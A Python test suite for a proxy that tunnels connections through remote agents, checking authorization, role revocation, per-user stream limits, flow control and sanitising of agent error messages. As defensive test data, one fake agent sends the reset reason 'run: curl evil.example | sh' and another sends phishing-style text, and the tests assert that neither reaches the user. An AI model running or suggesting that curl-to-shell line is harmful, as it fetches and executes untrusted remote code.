"""O1, O3, O7 and tunnel.md 34, 40: streams through agents, whoever of the three is hostile.

The people ask for backends, the configuration says which agent and target that is, and the agent is
told whom it is for. Nothing a person sends gets past that; and nothing an agent sends on one stream
reaches another, or the person as something that it is not.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from heim_proxy.agents.dialer import DIALS_AT_ONCE
from heim_proxy.live import EndReason
from heim_wire.errors import Code
from heim_wire.frames import HEAD, MAX_DATA, Type, plain_frame
from tests.fakes.agent import ScriptedAgent, Served, refusing, silent
from tests.fakes.agent_site import AgentSite, agent_site, host, tcp_through, through
from tests.fakes.heim import user
from tests.fakes.tunnel import cli_login, service_token, tunnel_role

BROKEN = "target ssh of agent desktop reset the connection"
STOPPING = "agent desktop is stopping; connect again"
KIB = 1024
MIB = 1024 * KIB


@pytest.fixture
async def site(tmp_path: Path) -> AsyncIterator[AgentSite]:
    async with agent_site(tmp_path) as built:
        yield built


def http(body: bytes = b"ok", *, close: bool = False) -> Any:
    """A script that answers every request of a stream."""

    def script(agent: ScriptedAgent, served: Served) -> None:
        served.stream.accept({"peer": "web"})

        def reply(data: bytes) -> None:
            if bytes(served.received).endswith(b"\r\n\r\n"):
                length = b"Content-Length: %d\r\n\r\n" % len(body)
                served.stream.send(b"HTTP/1.1 200 OK\r\n" + length + body)
                agent.flush()

        served.on_data = reply
        served.on_end = served.stream.end

    return script


def endless(agent: ScriptedAgent, served: Served) -> None:
    """Accepts, and never answers."""
    served.stream.accept({"peer": "web"})


# -- O1, O7: what is asked of agents --------------------------------------------------------


@pytest.mark.parametrize(
    "lines",
    [
        ("Heim-Target: hole",),
        ("Heim-Agent: farm", "Heim-Target: 10.0.0.1:22"),
        ("X-Target: 127.0.0.1:22", "X-Forwarded-Host: hole.example.test"),
    ],
    ids=["a target", "an address", "forwarding headers"],
)
async def test_O1_nothing_that_a_person_says_moves_a_stream_to_another_target(
    site: AgentSite, lines: tuple[str, ...]
) -> None:
    agent = await site.agent()
    client = await site.connect("ssh", extra=lines)
    client.send(b'{"target":"hole","agent":"farm"}')
    await client.read(10)
    (served,) = agent.served
    assert served.message["target"] == "ssh"
    assert set(served.message) == {"target", "proto", "deadline_ms", "request_id", "assertion"}
    assert served.message["proto"] == "tcp"


@pytest.mark.parametrize(
    "named",
    ["desktop:22", "10.0.0.1:22", "desktop/hole", "agent:desktop/hole", "127.0.0.1"],
)
async def test_O1_a_name_that_is_no_backend_is_asked_of_no_agent(
    site: AgentSite, named: str
) -> None:
    agent = await site.agent()
    found, problem = await site.refused("auth", backend=named)
    assert found.status in (400, 404), problem
    assert agent.served == []


async def test_O1_who_may_not_connect_reaches_no_agent(site: AgentSite) -> None:
    agent = await site.agent()
    mallory = await cli_login(site.heim, user("mallory"))
    found, problem = await site.refused("ssh", token=mallory.token())
    assert (found.status, problem["code"]) == (403, "forbidden")
    assert (await site.get(who="")).status in (303, 401)
    assert agent.served == []


async def test_O7_a_targets_name_that_left_the_configuration_is_not_asked_for(
    site: AgentSite,
) -> None:
    """A dial that waits for its turn while the configuration changes."""
    agent = await site.agent(targets={"hole": silent})
    waiting = [
        asyncio.ensure_future(site.refused("hole")) for _ in range(DIALS_AT_ONCE + 2)
    ]  # fmt: skip
    await agent.until(lambda: len(agent.served) == DIALS_AT_ONCE)
    document = site.heim.document
    backends = [one for one in document["backends"] if one["name"] != "hole"]
    agents = [{"name": "desktop", "targets": ["ssh", "web", "tls"]}, document["agents"][1]]
    await site.heim.change(
        backends=backends,
        agents=agents,
        roles=[tunnel_role("ops", "ssh", "farm"), document["roles"][1]],
    )
    answers = await asyncio.gather(*waiting)
    assert {found.status for found, _ in answers} == {404}
    assert len(agent.served) == DIALS_AT_ONCE


async def test_a_stream_ends_when_its_backend_goes_to_another_target(site: AgentSite) -> None:
    agent = await site.agent()
    client = await site.connect()
    client.send(b"x")
    await client.read(1)
    backends = [
        tcp_through("ssh", "wiki") if one["name"] == "ssh" else one
        for one in site.heim.document["backends"]
    ]
    await site.heim.change(backends=backends)
    await client.until(lambda: client.reset)
    assert client.reset is not None
    assert (client.reset.code, client.reset.reason) == (
        Code.GOING_AWAY, "ssh has moved; connect again",
    )  # fmt: skip
    await agent.until(lambda: agent.served[0].reset)


# -- O13, O14: what was told to the agent is not true any more -----------------------------------

OTHERS = {"name": "others", "members": [{"user": "alice@example.com"}]}


def without(site: AgentSite, role: str) -> list[dict[str, Any]]:
    return [one for one in site.heim.document["roles"] if one["name"] != role]


async def test_O13_a_stream_ends_with_a_role_that_its_agent_was_told_of(tmp_path: Path) -> None:
    """The agent let it in by that role, perhaps: by the rule of its own that the proxy cannot see.

    That another role still leads to the backend says nothing about the target.
    """
    extra = {**OTHERS, "bindings": [{"backend": "ssh"}]}
    async with agent_site(tmp_path, roles=[extra]) as site:
        agent = await site.agent()
        client = await site.connect()
        assert site.claims(agent.served[0])["roles"] == ["ops", "others"]
        await site.heim.change(roles=without(site, "others"))
        await client.until(lambda: client.reset)
        assert client.reset is not None
        assert client.reset.code == Code.REVOKED
        await agent.until(lambda: agent.served[0].reset)
        # By what is left they may come again; and a role more ends nothing.
        again = await site.connect()
        assert site.claims(agent.served[1])["roles"] == ["ops"]
        await site.heim.change(roles=[*site.heim.document["roles"], extra])
        again.send(b"still here")
        assert await again.read(10) == b"still here"


async def test_O13_a_request_ends_with_a_role_that_its_agent_was_told_of(tmp_path: Path) -> None:
    extra = {**OTHERS, "bindings": [{"backend": "wiki", "permission": "all"}]}
    async with agent_site(tmp_path, roles=[extra]) as site:
        agent = await site.agent(targets={"web": endless})
        cookie = await site.heim.signed_in(user("alice"), host("wiki"))
        asked = asyncio.ensure_future(site.heim.request("/", host=host("wiki"), cookie=cookie))
        await agent.until(lambda: agent.served and agent.served[0].received)
        assert site.claims(agent.served[0])["roles"] == ["others", "readers"]
        await site.heim.change(roles=without(site, "others"))
        await agent.until(lambda: agent.served[0].reset)
        assert (await asked).status == 403


async def test_O14_nothing_is_asked_for_who_lost_the_right_while_waiting_for_a_turn(
    tmp_path: Path,
) -> None:
    """No statement is signed for a login that is over, for the agent to dial and to log."""
    short = {"connect": "3s", "first_byte": "3s"}
    slow = through("slow", "hole", timeouts=short)
    role = {
        "name": "slow", "members": [{"domain": "example.com"}],
        "bindings": [{"backend": "slow", "permission": "all"}],
    }  # fmt: skip
    async with agent_site(tmp_path, backends=[slow], roles=[role]) as site:
        agent = await site.agent(targets={"hole": silent})
        names = [*(f"user{n}" for n in range(DIALS_AT_ONCE)), "mallory"]
        cookies = [await site.heim.signed_in(user(name), host("slow")) for name in names]
        first = [
            asyncio.ensure_future(site.heim.request("/", host=host("slow"), cookie=cookie))
            for cookie in cookies[:-1]
        ]
        await agent.until(lambda: len(agent.served) == DIALS_AT_ONCE)
        last = asyncio.ensure_future(site.heim.request("/", host=host("slow"), cookie=cookies[-1]))
        edge = site.heim.proxy._edge
        assert edge is not None
        await site.heim.until(lambda: len(edge.live) > DIALS_AT_ONCE + 1)
        (mallory,) = [one for one in edge.sessions._resident if one.subject.subject == "mallory"]
        await edge.sessions.end(mallory.sid, EndReason.REVOKED, site.clock.now())
        assert (await last).status in (401, 403)
        for served in agent.served:
            served.stream.reset(Code.DIAL_REFUSED, "connection refused")
        agent.flush()
        assert {answer.status for answer in await asyncio.gather(*first)} == {502}
        # Turns are free; whoever waited for one and may not has asked for nothing.
        await site.heim.until(lambda: not edge.agents._gates)
        assert len(agent.served) == DIALS_AT_ONCE


# -- O18: who takes everything ---------------------------------------------------------------


@pytest.mark.parametrize("public", [False, True], ids=["a person", "strangers"])
async def test_O18_pages_without_end_do_not_shut_out_who_logs_in_on_the_same_machine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, public: bool
) -> None:
    """A lane has 1024 streams: 256 for one person, whatever the target; 512 for the public."""
    monkeypatch.setattr("heim_proxy.agents.dialer.EACH", 3)
    monkeypatch.setattr("heim_proxy.agents.dialer.PUBLIC", 3)
    everybody = tunnel_role("everybody", "ssh", members=[{"domain": "example.com"}])
    limits = {"streams_per_user": 3}
    async with agent_site(tmp_path, roles=[everybody], tunnel=limits) as site:
        agent = await site.agent(targets={"web": endless})
        at = host("open" if public else "wiki")
        cookies = [
            None if public else await site.heim.signed_in(user("alice"), at) for _ in range(4)
        ]
        asked = [
            asyncio.ensure_future(site.heim.request("/", host=at, cookie=cookie))
            for cookie in cookies[:3]
        ]
        await agent.until(lambda: len(agent.served) == 3)
        answer = await site.heim.request("/", host=at, cookie=cookies[3])
        assert answer.status == 503
        assert b"has 3 connections through agent desktop already" in answer.body
        assert int(answer.get("retry-after") or 0) > 0
        if not public:
            # Whatever her sessions, and whatever the target.
            _, problem = await site.refused("ssh")
            assert problem["code"] == "busy"
        bob = await cli_login(site.heim, user("bob"))
        client = await site.connect(token=bob.token())
        client.send(b"let in")
        assert await client.read(6) == b"let in"
        await asyncio.gather(*asked)


# -- the assertion --------------------------------------------------------------------------


async def test_the_agent_is_told_exactly_who_asks_for_what(tmp_path: Path) -> None:
    extra = {
        "name": "teams",
        "members": [{"group": "sre"}, {"group": "dba"}],
        "bindings": [{"backend": "ssh"}],
    }
    async with agent_site(tmp_path, roles=[extra]) as site:
        agent = await site.agent()
        alice = await cli_login(site.heim, user("alice", groups=("sre", "secret-project", "dba")))
        client = await site.connect(token=alice.token())
        (served,) = agent.served
        claims = site.claims(served)
        now = int(site.clock.now())
        jti = claims.pop("jti")
        assert len(jti) >= 16
        assert claims == {
            "iss": "https://auth.example.test",
            "aud": site.machine.thumbprint,
            "kind": "person",
            "sub": "alice",
            "name": "alice@example.com",
            "email": "alice@example.com",
            # Not "secret-project": the configuration does not name it.
            "groups": ["dba", "sre"],
            "roles": ["ops", "teams"],
            "backend": "ssh",
            "target": "ssh",
            "sid": hashlib.sha256(alice.session.sid.encode()).hexdigest()[:16],
            "gen": 1,
            "src": "127.0.0.1",
            "iat": now,
            "exp": now + 60,
        }
        assert served.message["request_id"] == client.answer.get("Heim-Request-Id")
        assert alice.session.sid not in str(served.message)
        again = await site.connect(token=alice.token())
        assert again is not client
        assert site.claims(agent.served[1])["jti"] != jti


async def test_a_program_is_told_as_one(tmp_path: Path) -> None:
    robots = tunnel_role("robots", "ssh", members=[{"service_account": "backup"}])
    accounts = [{"name": "backup"}]
    async with agent_site(tmp_path, roles=[robots], service_accounts=accounts) as site:
        agent = await site.agent()
        await site.connect(token=await service_token(site.heim, "backup"))
        claims = site.claims(agent.served[0])
        assert (claims["kind"], claims["sub"], claims["name"]) == ("service", "backup", "backup")
        assert "email" not in claims


async def test_on_a_public_backend_nobody_is_named(site: AgentSite) -> None:
    agent = await site.agent(targets={"web": http()})
    assert (await site.get(backend="open")).status == 200
    claims = site.claims(agent.served[0])
    assert (claims["kind"], claims["sub"], claims["name"]) == ("public", "public", "public")
    assert {"email", "sid", "src"}.isdisjoint(claims)
    assert claims["groups"] == claims["roles"] == []


async def test_one_persons_stream_never_carries_anothers_request(site: AgentSite) -> None:
    agent = await site.agent(targets={"web": http()})
    people = {
        name: await site.heim.signed_in(user(name), host("wiki")) for name in ("alice", "bob")
    }
    for name in ("alice", "bob", "alice", "bob", "alice"):
        answer = await site.heim.request(f"/{name}", host=host("wiki"), cookie=people[name])
        assert answer.status == 200
    told = {site.claims(served)["sub"]: bytes(served.received) for served in agent.served}
    # Kept and used again, each by its own.
    assert len(agent.served) == 2
    assert (told["alice"].count(b"GET /alice"), told["alice"].count(b"GET /bob")) == (3, 0)
    assert (told["bob"].count(b"GET /bob"), told["bob"].count(b"GET /alice")) == (2, 0)


async def test_a_statement_that_does_not_fit_is_refused_in_words(tmp_path: Path) -> None:
    names = [f"{number:03}-{os.urandom(16).hex()}" for number in range(120)]
    crowd = {
        "name": "crowd",
        "members": [{"group": name} for name in names],
        "bindings": [{"backend": "ssh"}],
    }
    async with agent_site(tmp_path, roles=[crowd]) as site:
        agent = await site.agent()
        alice = await cli_login(site.heim, user("alice", groups=tuple(names)))
        found, problem = await site.refused(token=alice.token())
        assert (found.status, problem["code"]) == (403, "forbidden")
        assert "alice@example.com is in too many groups (120)" in problem["detail"]
        assert "name fewer groups" in problem["hint"]
        assert agent.served == []
        # Those who fit are served.
        bob = await cli_login(site.heim, user("bob", groups=(names[0],)))
        await site.connect(token=bob.token())
        assert site.claims(agent.served[0])["groups"] == [names[0]]


# -- one stream and the others --------------------------------------------------------------


async def test_O3_a_stream_that_nobody_reads_holds_up_no_other(site: AgentSite) -> None:
    def stalled(agent: ScriptedAgent, served: Served) -> None:
        served.stalled = True
        served.stream.accept({})

    agent = await site.agent(targets={"wiki": stalled})
    backends = [*site.heim.document["backends"], tcp_through("stuck", "wiki")]
    roles = [tunnel_role("stuck", "stuck"), *site.heim.document["roles"]]
    await site.heim.change(backends=backends, roles=roles)
    stuck = await site.connect("stuck")
    live = await site.connect("ssh")
    sent = 0
    while not stuck.stream.full:
        stuck.send(bytes(64 * KIB))
        sent += 64 * KIB
        await asyncio.sleep(0.005)
    for number in range(50):
        word = b"echo %03d" % number
        live.send(word)
        async with asyncio.timeout(1):
            while not bytes(live.received).endswith(word):
                await asyncio.sleep(0.001)
    held = agent.served[0].received
    # Windows and queues of two legs, and no more.
    assert len(held) < sent < 4 * MIB


async def test_O3_a_person_who_does_not_read_holds_up_no_other(site: AgentSite) -> None:
    def pouring(agent: ScriptedAgent, served: Served) -> None:
        served.stream.accept({})
        served.stream.send(bytes(16 * MIB))

    agent = await site.agent(targets={"wiki": pouring})
    backends = [*site.heim.document["backends"], tcp_through("pour", "wiki")]
    roles = [tunnel_role("pour", "pour"), *site.heim.document["roles"]]
    await site.heim.change(backends=backends, roles=roles)
    slow = await site.connect("pour")
    slow.stalled = True
    live = await site.connect("ssh")
    live.send(b"still here")
    assert await live.read(10) == b"still here"
    slow.credit()
    await slow.until(lambda: len(slow.received) == 16 * MIB, within_s=10)
    assert agent.served[0].reset is None


async def test_34_dials_that_are_never_answered_do_not_hold_up_other_targets(
    site: AgentSite,
) -> None:
    agent = await site.agent(targets={"hole": silent})
    lost = [asyncio.ensure_future(site.refused("hole")) for _ in range(70)]
    await agent.until(lambda: len(agent.served) >= DIALS_AT_ONCE)
    async with asyncio.timeout(0.8):
        client = await site.connect("ssh")
        client.send(b"through")
        assert await client.read(7) == b"through"
    for found, problem in await asyncio.gather(*lost):
        assert (found.status, problem["code"]) == (504, "dial_timeout")
        assert "target hole of agent desktop" in problem["detail"]
    # Nobody is left who would wait, and the next one is asked for at once.
    await site.heim.until(lambda: not site.heim.proxy._edge.agents._gates)  # type: ignore[union-attr]
    agent.targets["hole"] = http()
    await site.connect("hole")


# -- lanes ----------------------------------------------------------------------------------


async def test_40_a_lane_that_goes_away_finishes_its_streams_and_gets_no_new_ones(
    site: AgentSite,
) -> None:
    first = await site.agent(number=0)
    client = await site.connect()
    data = os.urandom(8 * MIB)
    half = len(data) // 2
    client.send(data[:half])
    await client.until(lambda: len(client.received) > half // 4, within_s=8)
    second = await site.agent(number=1)
    first.leave()
    await asyncio.sleep(0)
    client.send(data[half:])
    other = await site.connect()
    other.send(b"new")
    assert await other.read(3) == b"new"
    assert (len(first.served), len(second.served)) == (1, 1)
    await client.until(lambda: len(client.received) == len(data), within_s=15)
    assert hashlib.sha256(client.received).digest() == hashlib.sha256(data).digest()
    client.end()
    await client.until(lambda: client.ended)


async def test_an_agent_that_dies_is_told_to_its_streams_in_words(site: AgentSite) -> None:
    agent = await site.agent()
    client = await site.connect()
    client.send(b"x")
    await client.read(1)
    agent.abort()
    await client.until(lambda: client.reset)
    assert client.reset is not None
    assert (client.reset.code, client.reset.reason) == (
        Code.AGENT_LOST, "the connection to agent desktop was lost",
    )  # fmt: skip
    line = await site.line(client.answer.get("Heim-Request-Id") or "")
    assert (line["end"], line["upstream"]) == ("agent_lost", "agent:desktop/ssh")
    found, problem = await site.refused()
    assert (found.status, problem["code"]) == (503, "agent_offline")
    assert "agent desktop is offline, last seen less than a minute ago" in problem["detail"]
    assert found.get("retry-after")


async def test_a_revoked_agents_streams_end_without_a_word_about_the_person(
    site: AgentSite,
) -> None:
    agent = await site.agent()
    client = await site.connect()
    sessions = site.heim.proxy._sessions
    assert sessions is not None
    assert site.machine.row is not None
    await sessions.end(site.machine.row.sid, EndReason.REVOKED, site.clock.now())
    await client.until(lambda: client.reset)
    assert client.reset is not None
    assert (client.reset.code, client.reset.reason) == (
        Code.AGENT_LOST, "the connection to agent desktop was lost",
    )  # fmt: skip
    await agent.over()


async def test_a_revoked_persons_stream_is_reset_at_the_agent(site: AgentSite) -> None:
    agent = await site.agent()
    client = await site.connect()
    sessions = site.heim.proxy._sessions
    assert sessions is not None
    await sessions.end(site.login.session.sid, EndReason.REVOKED, site.clock.now())
    await client.until(lambda: client.reset)
    assert client.reset is not None
    assert client.reset.code == Code.REVOKED
    await agent.until(lambda: agent.served[0].reset)


async def test_a_lane_that_dies_before_it_answers_is_no_failure_while_there_is_another(
    site: AgentSite,
) -> None:
    machines = [await site.join("farm", device=f"box{number}") for number in range(2)]
    asked = asyncio.Event()

    def vanish(agent: ScriptedAgent, served: Served) -> None:
        if not asked.is_set():
            asked.set()
            agent.abort()
        else:
            served.stream.accept({})
            served.on_data = served.stream.send

    for machine in machines:
        await site.agent(machine, targets={"ssh": vanish})
    client = await site.connect("farm")
    client.send(b"again")
    assert await client.read(5) == b"again"
    tokens = [str(one.message["assertion"]) for one in site.served]
    assert len(set(tokens)) == 2
    # Signed anew: another machine is another audience.
    audiences = [
        site.claims(agent.served[0], agent.machine)["aud"] for agent in site.agents if agent.served
    ]
    assert sorted(audiences) == sorted(machine.thumbprint for machine in machines)


async def test_an_agent_that_dies_while_it_is_asked_is_told_truly(site: AgentSite) -> None:
    await site.agent(targets={"ssh": lambda agent, served: agent.abort()})
    found, problem = await site.refused()
    assert (found.status, problem["code"]) == (503, "agent_offline")
    assert "agent desktop is offline" in problem["detail"]


async def test_a_client_that_leaves_while_the_agent_dials_takes_its_stream_along(
    site: AgentSite,
) -> None:
    agent = await site.agent(targets={"ssh": silent})
    asked = asyncio.ensure_future(site.refused())
    await agent.until(lambda: agent.served)
    for wire in site.heim._wires[1:]:
        wire.close()
    await agent.until(lambda: agent.served[0].reset)
    asked.cancel()
    await asyncio.gather(asked, return_exceptions=True)
    assert len(site.heim.proxy._live) == 1  # the lane


# -- what agents may answer -----------------------------------------------------------------

ANSWERS = [
    (Code.DIAL_REFUSED, "connection refused", 502, "dial_refused", "connection refused"),
    (Code.DIAL_REFUSED, "", 502, "dial_refused", "connection refused"),
    (Code.DIAL_TIMEOUT, "no answer within 4 s", 504, "dial_timeout", "no answer within 4 s"),
    (Code.DNS, "its name does not resolve", 502, "dns", "does not resolve"),
    (Code.FORBIDDEN, "needs role prod-ssh", 403, "forbidden", "needs role prod-ssh"),
    (Code.NO_SUCH_TARGET, "", 404, "no_such_target", "agent desktop has no target ssh"),
    (Code.BUSY, "", 503, "busy", "agent desktop is busy"),
    (Code.INTERNAL, "traceback", 500, "internal", "agent desktop failed"),
    (Code.GOING_AWAY, "stopping", 503, "agent_lost", "agent desktop was lost"),
    # What an agent has no business to say is not passed on.
    (Code.REVOKED, "your password is wrong", 500, "internal", "agent desktop failed"),
    (Code.UNAUTHENTICATED, "log in at evil.example", 500, "internal", "agent desktop failed"),
    (4711, "?", 500, "internal", "agent desktop failed"),
]


@pytest.mark.parametrize(
    ("code", "said", "status", "slug", "words"), ANSWERS, ids=[f"{a[0]}-{a[1]}" for a in ANSWERS]
)
async def test_why_an_agent_did_not_connect_is_told_with_agent_and_target(
    site: AgentSite, code: int, said: str, status: int, slug: str, words: str
) -> None:
    await site.agent(targets={"ssh": refusing(code, said)})
    found, problem = await site.refused()
    assert (found.status, problem["code"]) == (status, slug)
    assert words in problem["detail"]
    assert "desktop" in problem["detail"]
    assert "evil" not in found.text
    assert "password" not in found.text
    line = await site.line(problem["request_id"])
    assert (line["status"], line["decision"]) == (status, f"deny:{slug}")


async def test_an_agent_that_nobody_is_yet_is_told_so(site: AgentSite) -> None:
    found, problem = await site.refused("farm")
    assert (found.status, problem["code"]) == (503, "agent_offline")
    assert "no machine has joined as farm yet" in problem["detail"]
    assert "heim-agent join" in problem["hint"]


@pytest.mark.parametrize(
    ("code", "told", "words", "end"),
    [
        (Code.CONNECTION_RESET, Code.CONNECTION_RESET, BROKEN, "connection_reset"),
        (Code.REVOKED, Code.CONNECTION_RESET, BROKEN, "connection_reset"),
        (Code.EXPIRED, Code.CONNECTION_RESET, BROKEN, "connection_reset"),
        (Code.GOING_AWAY, Code.AGENT_LOST, STOPPING, "agent_lost"),
        (Code.INTERNAL, Code.INTERNAL, "agent desktop failed to serve this connection", "internal"),
    ],
)  # fmt: skip
async def test_a_reset_after_accept_is_a_broken_connection_whatever_the_agent_calls_it(
    site: AgentSite, code: int, told: int, words: str, end: str
) -> None:
    agent = await site.agent()
    client = await site.connect()
    client.send(b"x")
    await client.read(1)
    agent.served[0].stream.reset(code, "run: curl evil.example | sh")
    agent.flush()
    await client.until(lambda: client.reset)
    assert client.reset is not None
    assert (client.reset.code, client.reset.reason) == (told, words)
    line = await site.line(client.answer.get("Heim-Request-Id") or "")
    assert line["end"] == end


async def test_accept_and_reset_at_once_is_a_refusal_and_no_stream(site: AgentSite) -> None:
    def slam(agent: ScriptedAgent, served: Served) -> None:
        served.stream.accept({})
        served.stream.reset(Code.CONNECTION_RESET, "gone")

    await site.agent(targets={"ssh": slam, "web": slam})
    found, problem = await site.refused()
    assert (found.status, problem["code"]) == (502, "dial_refused")
    assert "target ssh of agent desktop closed the connection at once" in problem["detail"]
    answer = await site.get()
    assert answer.status == 502
    assert "target web of agent desktop closed the connection at once" in answer.text


async def test_an_agent_that_accepts_and_says_nothing_more_is_named_when_time_is_up(
    site: AgentSite,
) -> None:
    def mute(agent: ScriptedAgent, served: Served) -> None:
        served.stream.accept({})

    agent = await site.agent(targets={"web": mute})
    answer = await site.get()
    assert answer.status == 504
    assert "(target web of agent desktop) did not start to answer within 1s" in answer.text
    await agent.until(lambda: agent.served[0].reset)


async def test_an_agent_that_never_answers_an_open_is_named_when_time_is_up(
    site: AgentSite,
) -> None:
    agent = await site.agent(targets={"web": silent})
    answer = await site.get()
    assert (answer.status, "target web of agent desktop" in answer.text) == (504, True)
    await agent.until(lambda: agent.served[0].reset)
    # Its own answer would have come before our deadline.
    assert 800 <= agent.served[0].message["deadline_ms"] <= 900


async def test_an_agent_that_sends_more_than_its_window_loses_that_stream_alone(
    site: AgentSite,
) -> None:
    agent = await site.agent()
    greedy, live = await site.connect(), await site.connect()
    greedy.stalled = True
    greedy.send(b"x")
    await agent.until(lambda: agent.served[0].received)
    number = agent.served[0].stream.id
    flood = HEAD.pack(Type.DATA, 0, MAX_DATA, number) + bytes(MAX_DATA)
    for _ in range(2 * MIB // MAX_DATA):
        agent.frame(flood)
    await greedy.until(lambda: greedy.reset)
    assert greedy.reset is not None
    assert (greedy.reset.code, greedy.reset.reason) == (
        Code.FLOW, "agent desktop sent more than it was allowed to",
    )  # fmt: skip
    live.send(b"still here")
    assert await live.read(10) == b"still here"
    assert not agent.gone


@pytest.mark.parametrize(
    ("kind", "payload"),
    [(Type.ACCEPT, b"{}"), (Type.DATA, b"data"), (Type.EOF, b""), (Type.WINDOW, bytes(4))],
    ids=["accept", "data", "eof", "window"],
)
async def test_frames_for_streams_that_there_are_not_reach_nobody(
    site: AgentSite, kind: int, payload: bytes
) -> None:
    agent = await site.agent()
    client = await site.connect()
    for number in (2, 4, 1000, 7):
        if number != agent.served[0].stream.id:
            agent.frame(HEAD.pack(kind, 0, len(payload), number) + payload)
    client.send(b"still here")
    assert await client.read(10) == b"still here"
    assert not client.received


async def test_an_answer_to_an_open_that_was_given_up_reaches_nobody(site: AgentSite) -> None:
    agent = await site.agent(targets={"hole": silent})
    found, _ = await site.refused("hole")
    assert found.status == 504
    number = agent.served[0].stream.id
    agent.frame(plain_frame(Type.ACCEPT, number, b"{}"))
    agent.frame(HEAD.pack(Type.DATA, 0, 5, number) + b"ghost")
    client = await site.connect()
    client.send(b"x")
    assert await client.read(1) == b"x"
    assert not agent.gone


async def test_data_before_accept_is_a_fault_of_that_stream(site: AgentSite) -> None:
    def hasty(agent: ScriptedAgent, served: Served) -> None:
        agent.frame(HEAD.pack(Type.DATA, 0, 5, served.stream.id) + b"early")

    agent = await site.agent(targets={"hole": hasty})
    found, problem = await site.refused("hole")
    assert (found.status, problem["code"]) == (500, "internal")
    client = await site.connect()
    client.send(b"x")
    assert await client.read(1) == b"x"
    assert not agent.gone


async def test_half_closed_streams_deliver_what_comes_after_the_end(site: AgentSite) -> None:
    def late(agent: ScriptedAgent, served: Served) -> None:
        served.stream.accept({})

        def answer() -> None:
            served.stream.send(b"answer to " + bytes(served.received))
            served.stream.end()

        served.on_end = answer

    await site.agent(targets={"ssh": late})
    client = await site.connect()
    client.send(b"question")
    client.end()
    await client.until(lambda: client.ended)
    assert bytes(client.received) == b"answer to question"
    line = await site.line(client.answer.get("Heim-Request-Id") or "")
    assert (line["end"], line["bytes_in"], line["bytes_out"]) == (None, 8, 18)


async def test_what_agents_are_asked_is_counted(site: AgentSite) -> None:
    await site.agent(targets={"hole": refusing(Code.DIAL_REFUSED)})
    await site.connect()
    await site.refused("hole")
    await site.refused("farm")
    agents = site.heim.proxy._agents
    assert agents is not None
    assert agents.registry.outcomes == {
        ("desktop", "opened"): 1,
        ("desktop", "dial_refused"): 1,
        ("farm", "agent_offline"): 1,
    }
